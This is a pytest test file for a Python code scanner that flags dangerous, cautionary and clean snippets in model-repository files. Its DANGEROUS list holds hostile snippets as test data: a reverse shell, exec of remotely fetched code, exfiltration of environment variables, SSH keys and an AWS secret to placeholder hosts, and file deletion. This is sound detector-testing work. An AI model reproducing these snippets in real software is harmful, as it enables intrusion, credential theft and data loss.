"""Ways of running something from Python source: each with a reason that a scanner must see, and honest twins."""

from __future__ import annotations

import pytest

# (file, source); payloads are inert and nothing here is ever run
DANGEROUS = [
    ("modeling_a.py", "import os as o\ngetattr(o,'sys'+'tem')('echo canary')"),
    ("modeling_a.py", "__import__('os').system('echo canary')"),
    ("modeling_a.py", "import subprocess\nclass X:\n    def __init__(self): subprocess.run(['sh','-c','echo canary'])"),
    ("modeling_a.py", "import importlib\nimportlib.import_module('o'+'s').popen('echo canary')"),
    ("modeling_a.py", "from os import system as s\ns('echo canary')"),
    ("modeling_a.py", "import socket,os\ns=socket.socket();s.connect(('192.0.2.1',99))\nos.dup2(s.fileno(),0)\nimport pty\npty.spawn('/bin/sh')"),
    ("modeling_a.py", "import urllib.request as u\nexec(u.urlopen('http://x.y/z').read())"),
    ("modeling_a.py", "import requests\ncode=requests.get('http://x').text\nexec(code)"),
    ("modeling_a.py", "import requests\nr=requests.get('http://x')\nopen('/tmp/a','wb').write(r.content)\nimport os\nos.chmod('/tmp/a',0o755)\nos.execv('/tmp/a',['a'])"),
    ("modeling_a.py", "import ctypes\nctypes.CDLL(None).system(b'echo canary')"),
    ("modeling_a.py", "import ctypes\nlib=ctypes.CDLL('./payload.so')"),
    ("modeling_a.py", "class M:\n    def forward(self,x):\n        import os\n        os.system('echo canary')\n        return x"),
    ("modeling_a.py", "def f():\n    import os\n    os.system('echo canary')\nf()"),
    ("modeling_a.py", "class A:\n    import os\n    os.system('echo canary')"),
    ("modeling_a.py", "@(lambda f: __import__('os').system('echo canary'))\ndef g(): pass"),
    ("modeling_a.py", "def g(x=__import__('os').system('echo canary')): pass"),
    ("modeling_a.py", 'import builtins\nbuiltins.exec(\'import os; os.system("echo canary")\')'),
    ("modeling_a.py", 'eval(compile(\'import os\\nos.system("echo canary")\',\'x\',\'exec\'))'),
    ("modeling_a.py", "import pickle,base64\npickle.loads(base64.b64decode('gASVAAAA'))"),
    ("modeling_a.py", "import marshal\nexec(marshal.loads(b'abc'))"),
    ("modeling_a.py", "exec(''.join(chr(ord(c)^3) for c in 'jnslqw'))"),
    ("modeling_a.py", "exec(bytes([105,109,112]).decode())"),
    ("modeling_a.py", "import zlib\nexec(zlib.decompress(b'x'))"),
    ("modeling_a.py", "import codecs\nexec(codecs.decode('vzcbeg bf','rot13'))"),
    ("modeling_a.py", "import os\nfor k,v in os.environ.items():\n    pass\nimport requests\nrequests.post('http://host.invalid/x',data=dict(os.environ))"),
    ("modeling_a.py", "import requests,pathlib\ndef up():\n    requests.post('http://x',data=pathlib.Path('~/.ssh/id_rsa').expanduser().read_text())\nup()"),
    ("modeling_a.py", "import os\nopen(os.path.expanduser('~/.bashrc'),'a').write('curl host.invalid|sh')"),
    ("modeling_a.py", "import shutil\nshutil.rmtree('/home')"),
    ("modeling_a.py", "import os\nos.remove('/etc/passwd')"),
    ("modeling_a.py", "import threading,os\nthreading.Thread(target=os.system,args=('echo canary',)).start()"),
    ("modeling_a.py", "import atexit,os\natexit.register(os.system,'echo canary')"),
    ("modeling_a.py", "import functools,os\nfunctools.partial(os.system,'echo canary')()"),
    ("modeling_a.py", "import os\nlist(map(os.system,['echo canary']))"),
    ("modeling_a.py", "x=().__class__.__bases__[0].__subclasses__()\nfor c in x:\n    if c.__name__=='Popen':\n        c('echo canary',shell=True)"),
    ("modeling_a.py", "import sys\nsys.modules['os'].system('echo canary')"),
    ("modeling_a.py", "import subprocess\nsubprocess.check_call('pip install other-package',shell=True)"),
    ("modeling_a.py", "import pip\npip.main(['install','host.invalid'])"),
    ("modeling_a.py", "import os,sys\nos.system(f'{sys.executable} -m pip install git+https://host/x')"),
    ("modeling_a.py", "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('echo canary'))"),
    ("modeling_a.py", "import multiprocessing as mp, os\nmp.Process(target=os.system,args=('echo canary',)).start()"),
    ("modeling_a.py", "import cffi\nffi=cffi.FFI()\nffi.dlopen('./other.so')"),
    ("modeling_a.py", "from torch.utils.cpp_extension import load_inline\nload_inline('x','#include <x>')"),
    ("modeling_a.py", "import torch\ntorch.ops.load_library('other.so')"),
    ("modeling_a.py", "import http.client\nc=http.client.HTTPSConnection('host.invalid')\nc.request('GET','/')\nexec(c.getresponse().read())"),
    ("modeling_a.py", "import socket,os\nsocket.gethostbyname(os.environ.get('AWS_SECRET_ACCESS_KEY','')[:60]+'.host.invalid')"),
    ("modeling_a.py", "type('X',(),{'__del__':lambda s:__import__('os').system('echo canary')})()"),
    ("modeling_a.py", "import os\nclass Meta(type):\n    def __new__(m,*a):\n        os.system('echo canary')\n        return type.__new__(m,*a)\nclass B(metaclass=Meta): pass"),
    ("modeling_a.py", "import os\nclass B:\n    def __init_subclass__(cls): os.system('echo canary')\nclass C(B): pass"),
    ("modeling_a.py", "s='os'\nm=__import__(s)\nf=getattr(m,'system')\nf('echo canary')"),
    ("modeling_a.py", "from os import *\nsystem('echo canary')"),
    ("modeling_a.py", "import os\nD={'a':os.system}\nD['a']('echo canary')"),
    ("modeling_a.py", "import os\n[os.system][0]('echo canary')"),
    ("modeling_a.py", "import os\n(lambda: os.system('echo canary'))()"),
    ("modeling_a.py", "import os\nsetattr(os,'x',1)\nos.__dict__['system']('echo canary')"),
    ("modeling_a.py", "import platform\nplatform.popen('echo canary')"),
    ("modeling_a.py", "import telnetlib\ntelnetlib.Telnet('host.invalid',23)"),
    ("modeling_a.py", "import smtplib\nsmtplib.SMTP('host.invalid').sendmail('a','b',open('/etc/passwd').read())"),
    ("modeling_a.py", "import webbrowser\nwebbrowser.open('http://host.invalid')"),
    ("modeling_a.py", "exec(open('payload.txt').read())"),
    ("modeling_a.py", "import os\nos.environ['LD_PRELOAD']='/tmp/other.so'"),
    ("modeling_a.py", "import builtins\nbuiltins.open=lambda *a:None"),
    ("modeling_a.py", "import urllib.request\nurllib.request.urlretrieve('http://host.invalid/x.sh','/tmp/x.sh')\nimport subprocess\nsubprocess.Popen(['bash','/tmp/x.sh'])"),
    ("modeling_a.py", "import winreg\nwinreg.SetValueEx(1,'a',0,1,'x')"),
    ("modeling_a.py", "import boto3\nboto3.client('s3').upload_file('/etc/passwd','b','k')"),
    ("modeling_a.py", "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'x'))"),
    ("modeling_a.py", "import requests\nrequests.post('https://discord.com/api/webhooks/1/x',json={'u':__import__('getpass').getuser()})"),
    ("modeling_a.py", "import os\nos.system('cat ~/.netrc | curl -X POST -d @- http://x')"),
    ("handler.py", "import os\nclass EndpointHandler:\n    def __call__(self,data):\n        return os.popen(data['cmd']).read()"),
    ("handler.py", "class EndpointHandler:\n    def __call__(self,data):\n        return eval(data['inputs'])"),
    ("handler.py", "import pickle\nclass EndpointHandler:\n    def __call__(self,data):\n        return pickle.loads(data['x'])"),
    ("setup.py", "from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        import os\n        os.system('echo canary')\n        install.run(self)\nsetup(cmdclass={'install':I})"),
    ("setup.py", "from setuptools import setup\nimport urllib.request\nurllib.request.urlopen('http://host.invalid/'+__import__('socket').gethostname())\nsetup()"),
    ("hubconf.py", "dependencies=['torch']\ndef model(**k):\n    import os\n    os.system('echo canary')"),
    ("tokenization_x.py", "class T:\n    def __init__(self,*a,**k):\n        exec(open(k['vocab_file']).read())"),
    ("conftest.py", "import os\nos.system('echo canary')"),
    ("__init__.py", "import os\nos.system('echo canary')"),
    ("utils.py", "import os\nos.system('curl http://host.invalid|sh')"),
    ("utils.py", "import os\nos.system('echo canary')"),
    ("loading_script.py", "import os\nimport datasets\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self,dl):\n        os.system('echo canary')"),
    ("pipeline.py", "import os\nclass P:\n    def __call__(self):\n        os.system('echo canary')"),
]  # fmt: skip
CAUTION = [
    ("modeling_a.py", "import pickle\npickle.load(open('x.pkl','rb'))"),
    ("modeling_a.py", "import torch\ntorch.load('payload.bin', weights_only=False)"),
    ("modeling_a.py", "import torch\ntorch.hub.load('host/repo','m',trust_repo=True)"),
    ("modeling_a.py", "from transformers import AutoModel\nAutoModel.from_pretrained('host/repo',trust_remote_code=True)"),
    ("modeling_a.py", "import dns.resolver\ndns.resolver.resolve('secret.host.invalid')"),
    ("modeling_a.py", "import os\nos.kill(1,9)"),
    ("modeling_a.py", "import sys\nsys.path.insert(0,'/tmp/x')\nimport othermod"),
    ("modeling_a.py", "import runpy\nrunpy.run_path('x.py')"),
]  # fmt: skip
CLEAN = [
    ("modeling_b.py", "import torch\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self):\n        super().__init__()\n        self.l=nn.Linear(2,2)\n    def forward(self,x): return self.l(x)"),
    ("modeling_b.py", "import os\nimport json\ndef load(p):\n    with open(os.path.join(p,'config.json')) as f: return json.load(f)"),
    ("modeling_b.py", "import torch\ndef load(p): return torch.load(p,map_location='cpu',weights_only=True)"),
    ("modeling_b.py", "try:\n    import flash_attn\nexcept ImportError:\n    flash_attn=None\nimport logging\nlogger=logging.getLogger(__name__)\nlogger.warning('x')"),
    ("modeling_b.py", "import subprocess\ndef version():\n    return subprocess.check_output(['nvidia-smi']).decode()"),
    ("modeling_b.py", "import os\nos.environ['TOKENIZERS_PARALLELISM']='false'"),
    ("modeling_b.py", "import requests\nfrom PIL import Image\ndef load_image(u):\n    return Image.open(requests.get(u,stream=True).raw)"),
    ("modeling_b.py", "import base64\ndef to_img(s): return base64.b64decode(s)"),
    ("modeling_b.py", "import re,sys\nsys.path.append('..')\nPAT=re.compile(r'eval\\(')"),
    ("modeling_b.py", "model.eval()\nx = model.compile(optimizer='adam')"),
    ("modeling_b.py", "from transformers import AutoTokenizer\nt=AutoTokenizer.from_pretrained('gpt2')"),
    ("modeling_b.py", "import importlib\nif importlib.util.find_spec('flash_attn'): pass"),
    ("modeling_b.py", "import hashlib,urllib\ndef dl(url,p):\n    import urllib.request\n    with urllib.request.urlopen(url) as s, open(p,'wb') as o: o.write(s.read())"),
    ("setup.py", "from setuptools import setup\nexec(open('pkg/version.py').read())\nsetup(name='x')"),
    ("setup.py", "from setuptools import setup, find_packages\nwith open('README.md') as f: d=f.read()\nsetup(name='x',long_description=d)"),
    ("train.py", "import subprocess,sys\nif __name__=='__main__':\n    subprocess.run([sys.executable,'x.py'])"),
    ("handler.py", "from transformers import pipeline\nclass EndpointHandler:\n    def __init__(self,path=''):\n        self.p=pipeline('text',model=path)\n    def __call__(self,data):\n        return self.p(data['inputs'])"),
]  # fmt: skip


@pytest.mark.parametrize(("path", "source"), DANGEROUS)
def test_something_with_a_reason_is_dangerous(look, path, source):
    found = look(source, path)
    assert found.level == "dangerous", [item.message for item in found.findings]


@pytest.mark.parametrize(("path", "source"), CAUTION)
def test_what_brings_in_something_unread_needs_a_look(look, path, source):
    found = look(source, path)
    assert found.level == "caution", [item.message for item in found.findings]


@pytest.mark.parametrize(("path", "source"), CLEAN)
def test_what_everybody_writes_is_clean(look, path, source):
    found = look(source, path)
    assert found.level == "clean", [item.message for item in found.findings]


def test_a_loader_s_file_is_summed_up(look):
    (said,) = look("import torch\nfrom torch import nn\n", "modeling_x.py").findings
    assert (said.rule, said.severity) == ("code-that-a-loader-runs-is-known", "info")
    assert "imports torch" in said.message
    assert "starts, fetches and unpickles nothing" in said.message


def test_a_container_that_holds_itself_ends(look):
    found = look("import os\nx = (f(x[0]), getattr(x[1], x[0]), x[1])\nx[1](x[0])\n", "modeling_x.py")
    assert found.gaps == ()


@pytest.mark.parametrize("size", [200, 400, 800])
def test_work_grows_with_the_source(size):
    import ast

    from ajar.safety.python_flow import Flow

    source = "import os\n" + "".join(f"a{n} = a{n - 1}[0](b.c({n}))\n" for n in range(size))
    assert Flow.of(ast.parse(source), loaded=frozenset()).names._steps < 40 * size
